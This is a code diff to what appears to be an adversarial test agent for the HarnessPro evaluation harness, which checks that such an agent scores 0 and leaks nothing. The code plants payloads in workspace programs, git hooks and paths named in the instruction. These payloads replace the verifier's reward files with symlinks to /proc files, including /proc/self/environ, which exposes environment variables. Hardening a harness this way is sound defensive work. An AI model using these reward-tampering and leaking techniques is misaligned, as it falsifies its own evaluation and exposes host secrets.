@@ -2,7 +2,9 @@
 host after the sandbox is gone. HarnessPro's tests run it on every task: it must score 0,
 leak nothing of the host, and never turn its failure into an infrastructure error.
 
-- reward links: every program, Python module and git hook in the workspace becomes a payload
+- reward links: every program, Python module and git hook in the workspace, and every path
+  under the working directory that the instruction names (the program it asks for), becomes a
+  payload
   that, when the verifier runs it, replaces `/logs/verifier/reward.txt` with a symbolic link
   to `/proc/sys/kernel/pid_max` (a number above 1 that the task's own `echo 0 >` cannot
   overwrite) and `reward.json` with one to `/proc/self/environ` (or to the file named by
@@ -19,6 +21,8 @@ from __future__ import annotations
 
 import json
 import os
+import re
+import shlex
 import stat
 from pathlib import Path
 
@@ -36,7 +40,7 @@ for name, target in (("reward.txt", "/proc/sys/kernel/pid_max"), ("reward.json",
     except OSError:
         pass
 """
-SHELL_PAYLOAD = "#!/bin/sh\npython3 -c " + repr(PAYLOAD.split("\n", 1)[1]) + " 2>/dev/null\n"
+SHELL_PAYLOAD = f"#!/bin/sh\npython3 -c {shlex.quote(PAYLOAD.split(chr(10), 1)[1])} 2>/dev/null\n"
 HOOKS = ("pre-commit", "post-commit", "pre-push", "post-checkout", "post-merge", "commit-msg")
 
 
@@ -51,8 +55,12 @@ def write(path: Path, text: str) -> None:
         pass
 
 
-def plant(work: Path) -> None:
+def plant(work: Path, instruction: str) -> None:
     """Every program, module and git hook the verifier might run becomes the payload."""
+    for named in re.findall(r"(/[\w./-]*\w)", instruction):
+        path = Path(named)
+        if path.is_relative_to(work) and path != work and not path.exists():
+            write(path, PAYLOAD if path.suffix == ".py" else SHELL_PAYLOAD)
     for path in list(work.rglob("*")):
         if not path.is_file() or path.is_symlink():
             continue
@@ -86,7 +94,7 @@ def attack_logs() -> list[str]:
 
 def main() -> None:
     task = json.loads(Path(os.environ["HARNESSPRO_TASK"]).read_text())
-    plant(Path(task.get("workdir") or os.getcwd()))
+    plant(Path(task.get("workdir") or os.getcwd()), task.get("instruction", ""))
     worked = attack_logs()
     out = Path(os.environ["HARNESSPRO_OUT"])
     os.symlink("/proc/self/environ", out / "trajectory.jsonl")
